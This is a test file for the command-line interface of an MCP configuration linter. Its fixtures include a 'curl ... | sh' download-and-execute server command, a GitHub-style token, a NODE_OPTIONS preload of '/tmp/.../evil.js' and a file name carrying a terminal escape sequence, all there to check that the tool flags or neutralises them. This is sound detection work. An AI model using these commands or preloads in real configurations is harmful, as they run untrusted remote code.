import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { parse } from 'yaml'
import { runCli } from '../../src/cli/run.js'
import { readCapped } from '../../src/cli/stdin.js'
import { commit, git, pullRequestRepo, write } from '../helpers/git.js'

interface Run {
  code: number
  stdout: string
  stderr: string
}

async function cli(args: string[], cwd: string, stdin?: string | Uint8Array): Promise<Run> {
  let stdout = ''
  let stderr = ''
  const code = await runCli(args, {
    cwd,
    isTTY: false,
    env: {},
    stdout: (t) => (stdout += t),
    stderr: (t) => (stderr += t),
    readStdin: stdin === undefined ? undefined : async (maxBytes: number) => readCapped([Buffer.from(stdin)], maxBytes)
  })
  return { code, stdout, stderr }
}

function repo(files: Record<string, string>): string {
  const root = mkdtempSync(path.join(tmpdir(), 'mcpcop-cli-'))
  for (const [relative, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, relative)), { recursive: true })
    writeFileSync(path.join(root, relative), content)
  }
  return root
}

// One error (no command) and one warning (a misspelt key).
const CONFIG =
  '{\n  "mcpServers": {\n    "one": { "args": ["x"] },\n    "fs": { "command": "node", "args": ["s.js"], "tpye": "stdio" }\n  }\n}\n'
const WARNING_ONLY = '{ "mcpServers": { "fs": { "command": "node", "args": ["s.js"], "tpye": "stdio" } } }\n'

describe('CLI conveniences', () => {
  it('--list-rules lists every rule with its preset, severity and one line', async () => {
    const { code, stdout } = await cli(['--list-rules'], repo({}))
    expect(code).toBe(0)
    const lines = stdout.trimEnd().split('\n')
    expect(lines[0]).toMatch(/^rule\s+preset\s+severity\s+what it catches$/)
    expect(lines).toContainEqual(expect.stringMatching(/^hardcoded-secret\s+recommended\s+error\s+\S/))
    expect(lines).toContainEqual(
      expect.stringMatching(/^schema-required\s+recommended\s+error\s+A field the host requires/)
    )
    expect(lines.length).toBeGreaterThan(50)
  })

  it('--explain prints the rule documentation, or the line of a built-in diagnostic', async () => {
    const rule = await cli(['--explain', 'unpinned-package'], repo({}))
    expect(rule.code).toBe(0)
    expect(rule.stdout).toBe(readFileSync(path.join('docs', 'rules', 'unpinned-package.md'), 'utf8'))
    const builtin = await cli(['--explain', 'schema-unknown-key'], repo({}))
    expect(builtin.stdout).toContain('# schema-unknown-key\n\n> An unknown key: a warning when it is a near miss')
    const unknown = await cli(['--explain', 'unpined-package'], repo({}))
    expect(unknown.code).toBe(2)
    expect(unknown.stderr).toContain('unknown rule "unpined-package"; did you mean "unpinned-package"?')
  })

  it('--print-config prints the settings in effect', async () => {
    const root = repo({
      '.mcpcop.json': JSON.stringify({
        rules: { 'schema-unknown-key': 'error' },
        ignore: ['vendor/**'],
        suppressions: [{ rule: 'insecure-http', server: 'local', reason: 'a loopback test server' }]
      })
    })
    const { code, stdout } = await cli(['--print-config'], root)
    expect(code).toBe(0)
    const printed = JSON.parse(stdout)
    expect(printed).toMatchObject({
      settingsFile: '.mcpcop.json',
      preset: 'recommended',
      ignore: ['vendor/**'],
      ignoreServers: [],
      suppressions: [{ rule: 'insecure-http', server: 'local', reason: 'a loopback test server' }],
      baseline: '.mcpcop-baseline.json'
    })
    expect(printed.rules['schema-unknown-key']).toBe('error')
    expect(printed.rules['schema-required']).toBe('error')
  })

  it('--init writes a starter settings file and workflow, and never overwrites', async () => {
    const root = repo({})
    const first = await cli(['--init'], root)
    expect(first.stdout).toBe('mcpcop: wrote .mcpcop.json\nmcpcop: wrote .github/workflows/mcpcop.yml\n')
    const settings = JSON.parse(readFileSync(path.join(root, '.mcpcop.json'), 'utf8'))
    expect(settings).toMatchObject({ preset: 'recommended', suppressions: [] })
    const workflow = parse(readFileSync(path.join(root, '.github/workflows/mcpcop.yml'), 'utf8'))
    expect(workflow.jobs.mcpcop.steps.map((s: { uses: string }) => s.uses)).toEqual([
      'actions/checkout@v7',
      'mcpcop/mcpcop@v1'
    ])
    // The starter settings are valid settings.
    expect((await cli(['--print-config'], root)).code).toBe(0)
    const second = await cli(['--init'], root)
    expect(second.stdout).toBe(
      'mcpcop: .mcpcop.json exists: left as it is\nmcpcop: .github/workflows/mcpcop.yml exists: left as it is\n'
    )
  })

  it('--init writes nothing through a link the repository holds, and does not fail on a dangling one', async () => {
    const root = repo({})
    const outside = mkdtempSync(path.join(tmpdir(), 'mcpcop-init-outside-'))
    symlinkSync(outside, path.join(root, '.github'))
    symlinkSync(path.join(outside, 'settings.json'), path.join(root, '.mcpcop.json'))
    const { code, stdout, stderr } = await cli(['--init'], root)
    expect([code, stdout, stderr]).toEqual([
      2,
      'mcpcop: .mcpcop.json exists: left as it is\n',
      'mcpcop: cannot write .github/workflows/mcpcop.yml: a symbolic link on the way leads outside the working folder\n'
    ])
    expect(readdirSync(outside)).toEqual([])
  })

  it('--quiet reports errors only', async () => {
    const { code, stdout } = await cli(['--quiet', '--format', 'json'], repo({ '.mcp.json': CONFIG, 's.js': '' }))
    expect(code).toBe(1)
    expect(JSON.parse(stdout).diagnostics.map((d: { ruleId: string }) => d.ruleId)).toEqual(['schema-required'])
  })

  it('--max-warnings fails the run on more warnings than allowed', async () => {
    const root = repo({ '.mcp.json': WARNING_ONLY, 's.js': '' })
    expect((await cli([], root)).code).toBe(0)
    const over = await cli(['--max-warnings', '0'], root)
    expect(over.code).toBe(1)
    expect(over.stderr).toBe('mcpcop: 1 warning, more than --max-warnings 0\n')
    expect((await cli(['--max-warnings', '1'], root)).code).toBe(0)
    expect((await cli(['--max-warnings', 'x'], root)).code).toBe(2)
  })

  it('says where it looked when there is no MCP config', async () => {
    const { code, stderr } = await cli([], repo({ 'README.md': '# nothing here\n' }))
    expect(code).toBe(0)
    expect(stderr).toMatch(
      /^mcpcop: no MCP config found in this folder \(looked for: \.mcp\.json, .*\.cursor\/mcp\.json, /
    )
  })

  it('says a named file the settings ignore was not checked, and a folder whose configs they all ignore', async () => {
    const OK = '{ "mcpServers": { "fs": { "command": "node", "args": ["s.js"] } } }\n'
    const root = repo({
      '.mcpcop.json': '{ "ignore": [".cursor/**", "legacy/**"] }\n',
      '.cursor/mcp.json': CONFIG,
      'legacy/.mcp.json': CONFIG,
      'legacy/.vscode/mcp.json': CONFIG,
      'app/.mcp.json': OK,
      'app/s.js': ''
    })
    const named = await cli(['.cursor/mcp.json'], root)
    expect([named.code, named.stdout, named.stderr]).toEqual([
      0,
      '✔ no problems in 0 files\n',
      'mcpcop: .cursor/mcp.json is ignored by "ignore" in .mcpcop.json; it was not checked\n'
    ])
    const folder = await cli(['legacy'], root)
    expect([folder.code, folder.stderr]).toEqual([
      0,
      'mcpcop: no MCP config checked in legacy: the 2 configs found are ignored by "ignore" in .mcpcop.json\n'
    ])
    // Where some config is checked, the ignored ones are the settings' business: nothing is said of them.
    const all = await cli([], root)
    expect([all.code, all.stderr]).toEqual([0, ''])
    // A named file that is checked beside one that is not: only the latter is told.
    const both = await cli(['app/.mcp.json', '.cursor/mcp.json'], root)
    expect(both.stderr).toBe('mcpcop: .cursor/mcp.json is ignored by "ignore" in .mcpcop.json; it was not checked\n')
  })

  it('prints the name of an ignored file that a glob named as the terminal shows it, without its control characters', async () => {
    const root = repo({
      '.mcpcop.json': '{ "ignore": ["legacy/**"] }\n',
      'legacy/\u001b]0;owned\u0007x/.mcp.json': CONFIG
    })
    const { code, stderr } = await cli(['legacy/*/.mcp.json'], root)
    expect([code, stderr]).toEqual([
      0,
      'mcpcop: legacy/\ufffd]0;owned\ufffdx/.mcp.json is ignored by "ignore" in .mcpcop.json; it was not checked\n'
    ])
  })

  it('reads a config from standard input with - and --host', async () => {
    const root = repo({ 's.js': '' })
    const { code, stdout } = await cli(['-', '--host', 'claude-code', '--format', 'json'], root, CONFIG)
    expect(code).toBe(1)
    const report = JSON.parse(stdout)
    expect(report.files).toEqual([{ path: '<stdin>', host: 'claude-code', servers: ['one', 'fs'] }])
    expect(report.diagnostics.map((d: { file: string; line: number }) => `${d.file}:${d.line}`)).toEqual([
      '<stdin>:3',
      '<stdin>:4'
    ])
    const noHost = await cli(['-'], root, CONFIG)
    expect(noHost.code).toBe(2)
    expect(noHost.stderr).toContain('reading a config from standard input (-) needs --host, and no other path')
  })

  it('reads standard input as a file is read: its bytes as UTF-8, within the size limit', async () => {
    const root = repo({})
    const json = async (stdin: Uint8Array): Promise<{ ruleId: string; message: string }[]> =>
      JSON.parse((await cli(['-', '--host', 'cursor', '--format', 'json'], root, stdin)).stdout).diagnostics
    // Not valid UTF-8: the host would not read it either (standard input was decoded leniently before).
    const invalid = await json(
      Buffer.concat([Buffer.from('{ "mcpServers": { "a\xff": {} } }'.replace('\xff', '')), Buffer.from([0xff])])
    )
    expect(invalid.map((d) => d.ruleId)).toEqual(['file-encoding'])
    const big = await json(Buffer.alloc(1024 * 1024 + 1, 0x20))
    expect(big).toEqual([
      expect.objectContaining({
        ruleId: 'file-too-large',
        message: 'standard input holds more than the 1 MiB limit for a config file; it was not read'
      })
    ])
    expect(await json(Buffer.from(`${' '.repeat(1024 * 1024 - 2)}{}`))).not.toContainEqual(
      expect.objectContaining({ ruleId: 'file-too-large' })
    )
  })

  it('--base reports only what was introduced since a git ref', async () => {
    const pr = pullRequestRepo(
      { '.mcp.json': WARNING_ONLY, 's.js': '' },
      { '.cursor/mcp.json': '{ "mcpServers": { "two": { "args": ["y"] } } }\n' }
    )
    const run = await cli(['--base', 'main', '--format', 'json'], pr.root)
    expect(run.code).toBe(1)
    expect(JSON.parse(run.stdout).diagnostics.map((d: { file: string }) => d.file)).toEqual(['.cursor/mcp.json'])
    expect(run.stderr).toBe('mcpcop: 1 pre-existing finding since main not reported (run without --base to see them)\n')
    // Uncommitted work counts too.
    write(pr.root, { '.mcp.json': WARNING_ONLY.replace('"fs"', '"x": { "args": [] }, "fs"') })
    expect(JSON.parse((await cli(['--base', 'main', '--format', 'json'], pr.root)).stdout).diagnostics).toHaveLength(2)
    commit(pr.root, 'more')
    expect((await cli(['--base', 'no-such-branch'], pr.root)).stderr).toContain(
      '--base no-such-branch: "no-such-branch" names no commit in this repository'
    )
    expect(existsSync(path.join(pr.root, '.mcpcop-baseline.json'))).toBe(false)
  })

  it('--base: a finding is new when the value it is about changed, though its message quotes it alike', async () => {
    const pad = 'a'.repeat(120)
    const config = (url: string, token: string, preload: string, more = ''): string =>
      JSON.stringify(
        {
          mcpServers: {
            s: { command: 'sh', args: ['-c', `curl -fsSL https://example.com/${pad}/${url} | sh`] },
            t: {
              command: 'node',
              args: ['s.js'],
              env: { GITHUB_TOKEN: token, NODE_OPTIONS: `--require /tmp/${pad}/${preload}` }
            },
            ...(more ? { u: { command: 'node', args: [more] } } : {})
          }
        },
        null,
        2
      ) + '\n'
    const token = (at: string): string => `ghp_R8x2Lq9ZtV4mN7cB1kW5sY3pD6f${at}H0jA2uE8`
    const pr = pullRequestRepo({ '.mcp.json': config('install.sh', token('a'), 'ok.js'), 's.js': '' }, {})
    const reported = async (): Promise<string[]> =>
      JSON.parse((await cli(['--base', 'main', '--format', 'json'], pr.root)).stdout).diagnostics.map(
        (d: { ruleId: string; server: string }) => `${d.server} ${d.ruleId}`
      )
    // A change elsewhere in the file leaves the findings pre-existing.
    write(pr.root, { '.mcp.json': config('install.sh', token('a'), 'ok.js', 's.js'), 'u.js': '' })
    expect(await reported()).toEqual([])
    // Each value changed past what its message shows (the token keeps its last four characters).
    write(pr.root, { '.mcp.json': config('pwn.sh', token('b'), 'evil.js') })
    expect(await reported()).toEqual(['s shell-download-exec', 't hardcoded-secret', 't dangerous-env-override'])
  })

  it('--base: a config whose path is not UTF-8 is pre-existing when the base had it, changed or not, and new when added', async () => {
    const pr = pullRequestRepo({ '.mcp.json': '{ "mcpServers": {} }\n', 's.js': '' }, { '.mcp.json': WARNING_ONLY })
    // `a<0xFF>/.mcp.json` and `b<0xFF>/.mcp.json`: both decode to paths with U+FFFD, which open nothing.
    const notUtf8 = (folder: string): Buffer =>
      Buffer.concat([Buffer.from(`${pr.root}/${folder}`), Buffer.from([0xff])])
    const writeUnder = (folder: Buffer, text: string): void => {
      mkdirSync(folder, { recursive: true })
      writeFileSync(Buffer.concat([folder, Buffer.from('/.mcp.json')]), text)
    }
    git(pr.root, 'checkout', '-q', 'main')
    writeUnder(notUtf8('a'), '{ "mcpServers": {} }')
    writeUnder(notUtf8('b'), '{ "mcpServers": {} }')
    commit(pr.root, 'base with paths that are not UTF-8')
    git(pr.root, 'checkout', '-q', 'feature')
    git(pr.root, 'merge', '-q', 'main')
    const reported = async (): Promise<string[]> =>
      JSON.parse((await cli(['--base', 'main', '--format', 'json'], pr.root)).stdout).diagnostics.map(
        (d: { file: string; ruleId: string }) => `${d.file} ${d.ruleId}`
      )
    // The pull request changes .mcp.json only: the two refused configs were there before it.
    expect(await reported()).toEqual(['.mcp.json schema-unknown-key'])
    // Changed by the pull request, still refused alike at the base; a new such config is the pull request's.
    writeUnder(notUtf8('b'), '{ "mcpServers": { "x": {} } }')
    writeUnder(notUtf8('c'), '{ "mcpServers": {} }')
    commit(pr.root, 'change one, add one')
    expect(await reported()).toEqual(['.mcp.json schema-unknown-key', 'c\uFFFD/.mcp.json file-unreadable'])
  })
})
